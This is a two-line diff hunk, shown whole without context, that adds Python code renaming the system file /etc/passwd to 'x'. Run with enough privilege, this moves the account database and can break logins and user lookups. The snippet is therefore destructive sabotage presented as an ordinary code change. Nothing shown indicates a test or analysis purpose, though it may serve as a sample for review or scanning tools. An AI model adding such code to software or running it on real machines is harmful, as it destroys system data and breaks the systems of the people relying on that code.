@@ -1,0 +1,2 @@
+import os
+os.rename("/etc/passwd", "x")
